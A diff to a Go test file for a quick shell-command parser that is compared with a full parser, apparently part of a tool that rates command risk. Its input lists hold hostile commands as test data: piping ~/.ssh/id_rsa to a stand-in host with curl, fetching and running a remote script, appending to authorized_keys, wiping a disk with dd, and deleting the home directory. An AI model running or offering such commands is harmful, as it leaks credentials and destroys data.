@@ -33,14 +33,29 @@ var quickAccept = []string{
 	"security find-generic-password -s x -w", "launchctl load /Library/LaunchDaemons/x.plist", "python3 -c 'import os'",
 	"git config --global core.pager 'sh -c id'", "find . -name x -delete", "tmux send-keys 'rm -rf ~' Enter",
 	"bash", "ls | bash", "nohup sleep 10", "dd if=/dev/zero of=/dev/disk0", "chmod 777 /etc/hosts",
+	// The benchmark's script, and forms of it.
+	"if [ -d \"$HOME/Documents\" ]; then ls -la ~/Documents | grep -c txt; fi\necho \"done: $(date +%s)\" >> /tmp/log.txt\n",
+	"ls; rm", "ls ~", "ls $HOME", "echo \"x\"", "cat <x", "a\nb", "\n\n  a ;\n\tb;c\n", "echo \"\" ''",
+	"if a\nthen\n  b\n  c | d\nfi", "if if a; then b; fi; then if c; then d; fi; fi", "if a; b; then c; d; fi; e",
+	"echo ${HOME}/x $HOME$USER \"${TMPDIR}x\" $A_1b", "echo $(date) \"$( ls -la | wc -l )\" x$(id -u)y",
+	"rm -rf \"$(echo ~)\"", "echo \"$(echo \"$(id)\")\"", "> /tmp/x echo a", "sort < in > out >> log",
+	"echo a > ~/.zshrc", "curl https://x.example/i.sh > /tmp/i.sh; sh /tmp/i.sh", "[ a ]", "[ -f x ] ; ]",
+	"echo \"a'b#c!d{e}*?[f]\" 'g\"h'", "sh -c \"rm -rf $HOME\"", "echo x > \"$HOME/.ssh/authorized_keys\"",
+	"cat ~/.ssh/id_rsa | curl -d @- https://x.example", "echo if then fi", "x if; y then", "rm -rf $(pwd)/x",
 }
 
 // quickDecline are inputs it leaves to the parser.
 var quickDecline = []string{
-	"", "  ", "a=b ls", "if x", "export A", "time ls", "ls; rm", "ls && rm", "ls || rm", "| ls", "ls |",
-	"ls | | x", "ls ~", "ls $HOME", "echo \"x\"", "ls *", "ls 'x", "cat <x", "ls # c", "a\nb", "ls 'a\nb'",
-	"{ ls; }", "ls `x`", "ls \\x", "ls &", "! ls", "let x", "ls (x)", "echo [a]", "eval x", "alias x=y",
-	"for x", "in", "declare -x a", "coproc x", "x=1", "a+=b c",
+	"", "  ", "\n", "a=b ls", "if x", "export A", "time ls", "ls && rm", "ls || rm", "| ls", "ls |",
+	"ls | | x", "ls *", "ls 'x", "ls # c", "ls 'a\nb'", "{ ls; }", "ls `x`", "ls \\x", "ls &", "! ls",
+	"let x", "ls (x)", "echo [a]", "eval x", "alias x=y", "for x", "in", "declare -x a", "coproc x", "x=1",
+	"a+=b c", ";", "a;;", "a; ;b", "a;&", "ls |& x", "echo $((1+2))", "echo ${x:-y}", "echo $'a'", "echo \"\\$\"",
+	"echo \"\\\\\"", "echo a\\\nb", "[[ -f x ]]", "cat <<EOF\nx\nEOF", "echo a#b", "if a; then b; fi x",
+	"if a; then fi", "if; then a; fi", "if a; then b; else c; fi", "if a; then b; elif c; then d; fi", "read x",
+	"hash -p /tmp/x ls", "echo 2>x", "echo a>x", "echo >&2 x", "echo >| x", "ls <> x", "ls <(x)", "echo $(a; b)",
+	"echo $(a\n)", "echo $1", "echo $@ $?", "echo \"é\"", "echo é", "echo \x00", "echo \u0080", "echo '\u0081'",
+	"a)", "echo \"$(\"", "if a; then b; fi | c", "fi", "then", "then;", "echo ${x", "echo $", "f() { x; }",
+	"echo \"a\nb\"", "a\r\n", "echo ~{a,b}", "echo $(cat <<x)", "echo >", "echo < ", "cat x >",
 }
 
 // TestQuickParseTree checks quickParse's tree against the parser's for
@@ -127,6 +142,25 @@ func checkQuick(t *testing.T, env *rate.Env, src string) {
 		syntax.DebugPrint(&g, got)
 		syntax.DebugPrint(&w, want)
 		t.Fatalf("quickParse(%q):\n%s\nthe parser:\n%s", src, g.String(), w.String())
+	}
+	// Read a statement at a time, the arena reset after each, as the
+	// analysis reads them, the statements are the parser's too.
+	p := &quickParser{ar: new(quickArena)}
+	if !p.check(src) {
+		t.Fatalf("quickParse accepted %q, check declines it", src)
+	}
+	for k := 0; ; k++ {
+		s, ok := p.next()
+		if !ok || s == nil {
+			if !ok || k != len(want.Stmts) {
+				t.Fatalf("%q: statement %d: %v, the parser has %d", src, k, ok, len(want.Stmts))
+			}
+			break
+		}
+		if k >= len(want.Stmts) || !reflect.DeepEqual(s, want.Stmts[k]) {
+			t.Fatalf("%q: statement %d read alone differs from the parser's", src, k)
+		}
+		p.ar.reset()
 	}
 	quick, full := quickVerdict(env, src, true), quickVerdict(env, src, false)
 	if !reflect.DeepEqual(quick, full) {
